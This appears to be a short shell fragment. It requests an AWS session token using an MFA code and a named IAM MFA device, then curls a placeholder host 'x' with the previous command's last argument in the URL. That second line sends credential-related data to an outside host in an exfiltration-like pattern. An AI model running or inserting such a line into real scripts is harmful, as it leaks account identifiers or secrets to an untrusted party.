aws sts get-session-token --token-code "$1" --serial-number arn:aws:iam::640912735518:mfa/odile
curl "https://x/$_"
